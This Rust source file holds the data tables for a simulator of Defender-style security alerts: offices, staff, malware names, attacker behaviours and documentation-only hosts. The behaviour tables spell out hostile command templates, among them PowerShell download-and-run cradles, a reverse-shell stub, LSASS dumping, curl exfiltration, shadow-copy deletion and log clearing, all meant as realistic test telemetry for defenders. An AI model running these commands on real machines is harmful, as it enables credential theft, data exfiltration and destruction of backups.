//! The tables the simulator draws from: sites, departments and people for the
//! fleet; threats, behaviours and network indicators for the detections.
//!
//! Threat names follow Microsoft's `Type:Platform/Family.Variant!Suffix`
//! naming so that parsers and dashboards see the shapes they meet in
//! production. Every host name and public address here is reserved for
//! documentation (RFC 2606, RFC 5737), so a simulated indicator can never send
//! an analyst, or a blocking rule, to a real machine.

/// An office: its name in machine groups and the private prefix of its subnet.
#[derive(Debug)]
pub struct Site {
    pub name: &'static str,
    /// The first two octets of the site's internal IPv4 addresses.
    pub ipv4_prefix: &'static str,
}

pub const SITES: [(Site, u32); 6] = [
    (Site { name: "UK", ipv4_prefix: "10.10" }, 30),
    (Site { name: "France", ipv4_prefix: "10.20" }, 20),
    (Site { name: "Germany", ipv4_prefix: "10.30" }, 15),
    (Site { name: "US East", ipv4_prefix: "172.16" }, 20),
    (Site { name: "US West", ipv4_prefix: "172.17" }, 10),
    (Site { name: "Japan", ipv4_prefix: "192.168" }, 5),
];

/// A department: the prefix of its machine names and its name in machine groups.
#[derive(Debug)]
pub struct Department {
    pub code: &'static str,
    pub name: &'static str,
}

pub const DEPARTMENTS: [(Department, u32); 9] = [
    (Department { code: "fin", name: "Finance" }, 12),
    (Department { code: "hr", name: "HR" }, 6),
    (Department { code: "eng", name: "Engineering" }, 25),
    (Department { code: "sales", name: "Sales" }, 18),
    (Department { code: "mkt", name: "Marketing" }, 8),
    (Department { code: "it", name: "IT" }, 8),
    (Department { code: "ops", name: "Operations" }, 10),
    (Department { code: "legal", name: "Legal" }, 4),
    (Department { code: "exec", name: "Executive" }, 3),
];

/// What kind of machine an endpoint is, and so how it is named and used.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    Laptop,
    Desktop,
    VirtualDesktop,
    Server,
}

pub const ROLES: [(Role, u32); 4] =
    [(Role::Laptop, 55), (Role::Desktop, 22), (Role::VirtualDesktop, 8), (Role::Server, 15)];

/// What servers do; the first part of a server's name (`sql-srv-0107`).
pub const SERVER_FUNCTIONS: [&str; 8] = ["dc", "fs", "sql", "web", "app", "print", "exch", "bkp"];

pub const FIRST_NAMES: [&str; 32] = [
    "alice", "bruno", "chloe", "daniel", "emma", "farid", "grace", "hiro", "ines", "james",
    "keiko", "liam", "maria", "noah", "olivia", "pierre", "quentin", "rosa", "sanjay", "tom",
    "ursula", "victor", "wendy", "xavier", "yuki", "zoe", "amir", "bea", "carlos", "dana", "elena",
    "felix",
];

pub const LAST_NAMES: [&str; 32] = [
    "adams", "bernard", "chen", "dubois", "evans", "fischer", "garcia", "hughes", "ito", "jones",
    "kowalski", "lambert", "martin", "nakamura", "okafor", "patel", "quinn", "rossi", "schmidt",
    "tanaka", "usman", "vogel", "walker", "xu", "young", "zimmer", "moreau", "novak", "brown",
    "silva", "weber", "kim",
];

/// Accounts that log on to servers besides administrators.
pub const SERVICE_ACCOUNTS: [&str; 6] =
    ["svc_backup", "svc_sql", "svc_web", "svc_scan", "svc_deploy", "svc_print"];

/// `DeviceCreatedMachineTags`: what an administrator stamps on the machine.
pub const DEVICE_TAGS: [&str; 8] =
    ["VIP", "BYOD", "Kiosk", "PCI", "Pilot", "Contractor", "Shared", "Lab"];

/// `CloudCreatedMachineTags`: what the portal or automation assigns.
pub const CLOUD_TAGS: [&str; 6] = ["Prod", "Test", "Intune", "Azure", "Onboarded-2024", "Tier1"];

/// A threat the antivirus engine names.
#[derive(Debug)]
pub struct Threat {
    pub name: &'static str,
    pub family: &'static str,
    /// `ThreatCategory`, the type in the threat's name spelled out.
    pub threat_category: &'static str,
    /// The alert's `Category`.
    pub category: &'static str,
    /// How titles call it: "'Emotet' malware was prevented".
    pub noun: &'static str,
    /// File names the threat is found under.
    pub files: &'static [&'static str],
}

pub const THREATS: [(Threat, u32); 16] = [
    (
        Threat {
            name: "Trojan:Win32/Emotet.PK!MTB",
            family: "Emotet",
            threat_category: "Trojan",
            category: "Malware",
            noun: "malware",
            files: &["invoice_scan.exe", "wmiprvse32.exe", "Y9d2kq.dll"],
        },
        10,
    ),
    (
        Threat {
            name: "TrojanDownloader:O97M/Emotet.RVB!MTB",
            family: "Emotet",
            threat_category: "TrojanDownloader",
            category: "Malware",
            noun: "malware",
            files: &["Invoice_0423.doc", "REMITTANCE-ADVICE.docm", "Payment details.xlsm"],
        },
        8,
    ),
    (
        Threat {
            name: "Trojan:Win32/Qakbot.RPX!MTB",
            family: "Qakbot",
            threat_category: "Trojan",
            category: "Malware",
            noun: "malware",
            files: &["Qvmwphz.dll", "report_8812.dll", "1.dat"],
        },
        8,
    ),
    (
        Threat {
            name: "Trojan:Win32/IcedID.MS!MTB",
            family: "IcedID",
            threat_category: "Trojan",
            category: "Malware",
            noun: "malware",
            files: &["license.dat", "update_x64.dll", "Documents_1128.iso"],
        },
        6,
    ),
    (
        Threat {
            name: "PWS:Win32/AgentTesla.PA!MTB",
            family: "AgentTesla",
            threat_category: "PWS",
            category: "CredentialAccess",
            noun: "malware",
            files: &["PO_20931.exe", "Shipping Documents.scr", "vbc.exe"],
        },
        6,
    ),
    (
        Threat {
            name: "Ransom:Win32/Ryuk.A",
            family: "Ryuk",
            threat_category: "Ransomware",
            category: "Ransomware",
            noun: "ransomware",
            files: &["RyukReadMe.exe", "sdfsd.exe", "window.exe"],
        },
        4,
    ),
    (
        Threat {
            name: "Ransom:Win32/LockBit.AA!MTB",
            family: "LockBit",
            threat_category: "Ransomware",
            category: "Ransomware",
            noun: "ransomware",
            files: &["lb3.exe", "LockBit_Ransomware.hta", "svhost.exe"],
        },
        4,
    ),
    (
        Threat {
            name: "Ransom:Win32/Conti.ZA",
            family: "Conti",
            threat_category: "Ransomware",
            category: "Ransomware",
            noun: "ransomware",
            files: &["x64.dll", "locker.exe"],
        },
        3,
    ),
    (
        Threat {
            name: "HackTool:Win32/Mimikatz.D",
            family: "Mimikatz",
            threat_category: "HackTool",
            category: "CredentialAccess",
            noun: "hacktool",
            files: &["mimikatz.exe", "mimi64.exe", "m.ps1"],
        },
        7,
    ),
    (
        Threat {
            name: "HackTool:Win32/LaZagne",
            family: "LaZagne",
            threat_category: "HackTool",
            category: "CredentialAccess",
            noun: "hacktool",
            files: &["lazagne.exe", "lz.exe"],
        },
        3,
    ),
    (
        Threat {
            name: "Backdoor:Win64/CobaltStrike.NP!dha",
            family: "CobaltStrike",
            threat_category: "Backdoor",
            category: "CommandAndControl",
            noun: "malware",
            files: &["beacon_x64.exe", "artifact.exe", "msedgeupdate.dll"],
        },
        6,
    ),
    (
        Threat {
            name: "Worm:Win32/Raspberryrobin.A",
            family: "Raspberryrobin",
            threat_category: "Worm",
            category: "Malware",
            noun: "malware",
            files: &["USB Drive.lnk", "q0x.msi"],
        },
        4,
    ),
    (
        Threat {
            name: "Exploit:O97M/CVE-2017-11882.AJ",
            family: "CVE-2017-11882",
            threat_category: "Exploit",
            category: "Exploit",
            noun: "exploit",
            files: &["Quotation.rtf", "RFQ_5521.doc"],
        },
        4,
    ),
    (
        Threat {
            name: "PUA:Win32/Presenoker",
            family: "Presenoker",
            threat_category: "PUA",
            category: "UnwantedSoftware",
            noun: "unwanted software",
            files: &["SetupFree.exe", "pdf_converter_setup.exe"],
        },
        8,
    ),
    (
        Threat {
            name: "HackTool:Win32/AutoKMS",
            family: "AutoKMS",
            threat_category: "HackTool",
            category: "UnwantedSoftware",
            noun: "hacktool",
            files: &["AutoKMS.exe", "KMSpico_setup.exe"],
        },
        5,
    ),
    (
        Threat {
            name: "Virus:DOS/EICAR_Test_File",
            family: "EICAR_Test_File",
            threat_category: "Virus",
            category: "Malware",
            noun: "malware",
            files: &["eicar.com", "eicar_com.zip", "eicar.txt"],
        },
        4,
    ),
];

/// Folders threats are found in; `{user}` is a user logged on to the device.
pub const THREAT_FOLDERS: [&str; 8] = [
    "C:\\Users\\{user}\\AppData\\Local\\Temp",
    "C:\\Users\\{user}\\Downloads",
    "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
    "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\{hex8}",
    "C:\\Users\\{user}\\Desktop",
    "C:\\ProgramData\\{hex8}",
    "C:\\Windows\\Temp",
    "C:\\Users\\Public",
];

/// `RemediationAction` and how often it is taken; `""` is a detection the
/// engine only reported.
pub const REMEDIATIONS: [(&str, u32); 4] =
    [("Quarantine", 50), ("Remove", 15), ("Block", 20), ("", 15)];

/// An attack technique the EDR sensor recognises in process behaviour.
#[derive(Debug)]
pub struct Behaviour {
    pub title: &'static str,
    pub category: &'static str,
    pub description: &'static str,
    /// The process's image name and folder.
    pub file_name: &'static str,
    pub folder: &'static str,
    /// Processes that typically start it, reported as the creator.
    pub parents: &'static [&'static str],
    /// Command lines, expanded by `detections::expand`.
    pub commands: &'static [&'static str],
}

const SYSTEM32: &str = "C:\\Windows\\System32";
const POWERSHELL_DIR: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";

pub const BEHAVIOURS: [(Behaviour, u32); 16] = [
    (
        Behaviour {
            title: "Suspicious PowerShell command line",
            category: "Execution",
            description: "A suspicious PowerShell command line was run; attackers use encoded \
                          commands to download and run payloads without writing them to disk.",
            file_name: "powershell.exe",
            folder: POWERSHELL_DIR,
            parents: &["winword.exe", "excel.exe", "cmd.exe", "wscript.exe", "explorer.exe"],
            commands: &[
                "powershell.exe -NoProfile -WindowStyle Hidden -enc {enc}",
                "powershell.exe -nop -w hidden -ep bypass -EncodedCommand {enc}",
                "powershell.exe -ExecutionPolicy Bypass -c \"IEX (New-Object \
                 Net.WebClient).DownloadString('{url}')\"",
            ],
        },
        12,
    ),
    (
        Behaviour {
            title: "Credential dumping activity",
            category: "CredentialAccess",
            description: "A process read the memory of the LSASS service, a common way to \
                          steal the credentials of users who signed in to the device.",
            file_name: "rundll32.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "powershell.exe", "wmiprvse.exe"],
            commands: &[
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {pid} \
                 C:\\Windows\\Temp\\{hex8}.dmp full",
                "rundll32.exe comsvcs.dll #24 {pid} C:\\Users\\Public\\lsass.dmp full",
            ],
        },
        7,
    ),
    (
        Behaviour {
            title: "Suspicious scheduled task",
            category: "Persistence",
            description: "A scheduled task was created that runs a program from a \
                          user-writable folder, a common way for malware to survive a reboot.",
            file_name: "schtasks.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "powershell.exe", "mshta.exe"],
            commands: &[
                "schtasks.exe /create /tn \"{task}\" /tr \
                 \"C:\\Users\\{user}\\AppData\\Roaming\\{hex8}.exe\" /sc onlogon /ru SYSTEM /f",
                "schtasks.exe /create /sc minute /mo 30 /tn \"{task}\" /tr \"rundll32.exe \
                 C:\\ProgramData\\{hex8}.dll,DllRegisterServer\" /f",
            ],
        },
        8,
    ),
    (
        Behaviour {
            title: "Suspicious Run key registry modification",
            category: "Persistence",
            description: "A program was added to a Run key so that it starts every time the \
                          user signs in.",
            file_name: "reg.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "powershell.exe"],
            commands: &["reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \
                 \"{task}\" /t REG_SZ /d \"C:\\Users\\{user}\\AppData\\Roaming\\{hex8}.exe\" /f"],
        },
        5,
    ),
    (
        Behaviour {
            title: "Suspicious service creation",
            category: "PrivilegeEscalation",
            description: "A service was installed that runs a binary from a temporary folder \
                          as LocalSystem.",
            file_name: "sc.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "services.exe", "powershell.exe"],
            commands: &[
                "sc.exe create {task} binPath= \"C:\\Windows\\Temp\\{hex8}.exe\" start= auto \
                 obj= LocalSystem",
                "sc.exe config {task} binPath= \"cmd.exe /c C:\\Users\\Public\\{hex8}.bat\"",
            ],
        },
        4,
    ),
    (
        Behaviour {
            title: "Suspicious remote process creation via WMI",
            category: "LateralMovement",
            description: "WMI was used to start a process on another device, a technique \
                          attackers use to move through a network.",
            file_name: "wmic.exe",
            folder: "C:\\Windows\\System32\\wbem",
            parents: &["cmd.exe", "powershell.exe"],
            commands: &[
                "wmic.exe /node:{peer} process call create \"cmd.exe /c \
                 C:\\Windows\\Temp\\{hex8}.bat\"",
                "wmic.exe /node:\"{peer}\" /user:{user} process call create \"powershell.exe \
                 -enc {enc}\"",
            ],
        },
        5,
    ),
    (
        Behaviour {
            title: "PsExec used to run a program on a remote device",
            category: "LateralMovement",
            description: "PsExec started a program on another device with system privileges.",
            file_name: "PsExec64.exe",
            folder: "C:\\Users\\{user}\\Downloads",
            parents: &["cmd.exe", "powershell.exe"],
            commands: &["PsExec64.exe \\\\{peer} -accepteula -s -d cmd.exe /c \
                 \"C:\\Windows\\Temp\\{hex8}.exe\""],
        },
        3,
    ),
    (
        Behaviour {
            title: "Suspicious file download via certutil",
            category: "DefenseEvasion",
            description: "certutil.exe, a signed Windows tool, was used to download a file, \
                          which lets a payload pass filters that trust system binaries.",
            file_name: "certutil.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "powershell.exe", "wscript.exe"],
            commands: &[
                "certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\{hex8}.exe",
                "certutil.exe -decode C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex8}.txt \
                 C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex8}.dll",
            ],
        },
        6,
    ),
    (
        Behaviour {
            title: "Suspicious mshta process launched",
            category: "DefenseEvasion",
            description: "mshta.exe ran a remote HTML application, a way to run script outside \
                          the browser's protections.",
            file_name: "mshta.exe",
            folder: SYSTEM32,
            parents: &["explorer.exe", "winword.exe", "outlook.exe"],
            commands: &[
                "mshta.exe {url}",
                "mshta.exe vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -enc {enc}\"\", 0:close\")",
            ],
        },
        4,
    ),
    (
        Behaviour {
            title: "File backups were deleted",
            category: "DefenseEvasion",
            description: "Volume shadow copies were deleted, which ransomware does before it \
                          encrypts files so that they cannot be restored.",
            file_name: "vssadmin.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "powershell.exe"],
            commands: &[
                "vssadmin.exe delete shadows /all /quiet",
                "wmic.exe shadowcopy delete /nointeractive",
            ],
        },
        3,
    ),
    (
        Behaviour {
            title: "Event log was cleared",
            category: "DefenseEvasion",
            description: "A Windows event log was cleared, which removes traces of earlier \
                          activity.",
            file_name: "wevtutil.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "powershell.exe"],
            commands: &["wevtutil.exe cl Security", "wevtutil.exe cl System"],
        },
        3,
    ),
    (
        Behaviour {
            title: "Suspicious sequence of exploration activities",
            category: "Discovery",
            description: "A process ran commands that enumerate users, groups and domain \
                          controllers, as attackers do to plan their next step.",
            file_name: "cmd.exe",
            folder: SYSTEM32,
            parents: &["powershell.exe", "rundll32.exe", "explorer.exe"],
            commands: &[
                "cmd.exe /c whoami /all & net group \"Domain Admins\" /domain & nltest \
                 /dclist:{domain}",
                "cmd.exe /c net user /domain & net localgroup administrators & ipconfig /all",
                "cmd.exe /c nltest /domain_trusts /all_trusts",
            ],
        },
        7,
    ),
    (
        Behaviour {
            title: "Suspicious behavior by Microsoft Word was observed",
            category: "Execution",
            description: "A Word document started a command interpreter, typical of a macro \
                          that downloads malware.",
            file_name: "cmd.exe",
            folder: SYSTEM32,
            parents: &["winword.exe"],
            commands: &["cmd.exe /c powershell -w hidden -c \"iwr {url} -OutFile \
                 $env:TEMP\\{hex8}.exe; Start-Process $env:TEMP\\{hex8}.exe\""],
        },
        5,
    ),
    (
        Behaviour {
            title: "Data staged in an encrypted archive",
            category: "Collection",
            description: "Files from user folders were packed into a password-protected \
                          archive, often the step before they are sent out.",
            file_name: "7z.exe",
            folder: "C:\\Program Files\\7-Zip",
            parents: &["cmd.exe", "powershell.exe"],
            commands: &["7z.exe a -p{hex8} -mhe=on C:\\Users\\Public\\{hex8}.7z \
                 C:\\Users\\{user}\\Documents\\*"],
        },
        3,
    ),
    (
        Behaviour {
            title: "Possible exfiltration over a web service",
            category: "Exfiltration",
            description: "A command-line tool uploaded an archive to an external web service.",
            file_name: "curl.exe",
            folder: SYSTEM32,
            parents: &["cmd.exe", "powershell.exe"],
            commands: &["curl.exe -s -k -F \"file=@C:\\Users\\Public\\{hex8}.7z\" {url}"],
        },
        2,
    ),
    (
        Behaviour {
            title: "Suspicious process injection observed",
            category: "SuspiciousActivity",
            description: "A process wrote code into the memory of another process, a way to \
                          hide malicious activity inside a trusted one.",
            file_name: "rundll32.exe",
            folder: SYSTEM32,
            parents: &["explorer.exe", "svchost.exe", "winword.exe"],
            commands: &[
                "rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex8}.dll,Start",
                "rundll32.exe shell32.dll,Control_RunDLL C:\\ProgramData\\{hex8}.cpl",
            ],
        },
        5,
    ),
];

/// Script bodies hidden in `powershell -enc` command lines; `{url}` is expanded first.
pub const ENCODED_SCRIPTS: [&str; 3] = [
    "IEX (New-Object Net.WebClient).DownloadString('{url}')",
    "$c=New-Object Net.Sockets.TCPClient('{ip}',443);$s=$c.GetStream()",
    "Invoke-WebRequest -Uri '{url}' -OutFile $env:APPDATA\\{hex8}.exe; \
     Start-Process $env:APPDATA\\{hex8}.exe",
];

/// Names of scheduled tasks and services made to look like Windows' own.
pub const TASK_NAMES: [&str; 6] = [
    "MicrosoftEdgeUpdateTaskCore",
    "OneDrive Standalone Sync",
    "WindowsDefenderCache",
    "GoogleUpdateTaskMachineUA",
    "SystemHealthMonitor",
    "AdobeFlashSync",
];

/// A suspicious network connection the sensor or network protection reports.
#[derive(Debug)]
pub struct Connection {
    pub title: &'static str,
    pub category: &'static str,
    pub source: &'static str,
    pub description: &'static str,
    /// The process that made the connection.
    pub file_name: &'static str,
    pub folder: &'static str,
}

pub const CONNECTIONS: [(Connection, u32); 5] = [
    (
        Connection {
            title: "Connection to a known command-and-control server",
            category: "CommandAndControl",
            source: "EDR",
            description: "A process connected to an address that threat intelligence links to \
                          a command-and-control server.",
            file_name: "rundll32.exe",
            folder: SYSTEM32,
        },
        30,
    ),
    (
        Connection {
            title: "Network protection blocked a connection to a malicious site",
            category: "CommandAndControl",
            source: "Network protection",
            description: "Network protection blocked an outbound connection to a site with a \
                          malicious reputation.",
            file_name: "msedge.exe",
            folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
        },
        25,
    ),
    (
        Connection {
            title: "Beaconing to a rare external host",
            category: "CommandAndControl",
            source: "EDR",
            description: "A process contacted an external host at regular intervals, the \
                          pattern of an implant checking in for instructions.",
            file_name: "svchost.exe",
            folder: SYSTEM32,
        },
        20,
    ),
    (
        Connection {
            title: "Possible data exfiltration over HTTPS",
            category: "Exfiltration",
            source: "EDR",
            description: "An unusually large amount of data was sent to an external host that \
                          the organization has not contacted before.",
            file_name: "powershell.exe",
            folder: POWERSHELL_DIR,
        },
        15,
    ),
    (
        Connection {
            title: "Upload to an unsanctioned cloud storage site was blocked",
            category: "Exfiltration",
            source: "Network protection",
            description: "Network protection blocked an upload to a file-sharing site outside \
                          the organization's approved list.",
            file_name: "chrome.exe",
            folder: "C:\\Program Files\\Google\\Chrome\\Application",
        },
        10,
    ),
];

/// The three address blocks reserved for documentation (RFC 5737).
pub const DOCUMENTATION_NETWORKS: [&str; 3] = ["192.0.2", "198.51.100", "203.0.113"];

/// Host names under domains reserved for examples (RFC 2606).
pub const EXTERNAL_HOSTS: [&str; 10] = [
    "update-check.example.net",
    "cdn-static.example.com",
    "login-verify.example.org",
    "files.share-docs.example",
    "api.telemetry-sync.example.net",
    "mail-secure.example.com",
    "dl.softupdate.example.org",
    "paste.example.net",
    "invoice-portal.example.com",
    "c2.badhost.example",
];

pub const URL_PATHS: [&str; 8] = [
    "/gate.php",
    "/wp-content/plugins/{hex8}/load.php",
    "/download/{hex8}.bin",
    "/api/v2/check-in",
    "/upload",
    "/images/{hex8}.png",
    "/jquery-3.3.1.min.js",
    "/owa/auth/logon.aspx",
];

/// Tracked activity groups, named as Microsoft named them until 2023.
pub const ACTORS: [&str; 8] =
    ["STRONTIUM", "PHOSPHORUS", "NOBELIUM", "HAFNIUM", "GALLIUM", "ZINC", "BARIUM", "NICKEL"];

/// Severities and their weights: most alerts that reach a SIEM are Medium or High.
pub const SEVERITIES: [(&str, u32); 4] =
    [("Informational", 5), ("Low", 15), ("Medium", 45), ("High", 35)];

/// The three kinds of detection and their shares of the alerts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Antivirus,
    Behaviour,
    Network,
}

pub const KINDS: [(Kind, u32); 3] =
    [(Kind::Antivirus, 45), (Kind::Behaviour, 40), (Kind::Network, 15)];

/// How many indicators an alert has: most one, some up to four.
pub const PARTS: [(u32, u32); 4] = [(1, 72), (2, 15), (3, 8), (4, 5)];
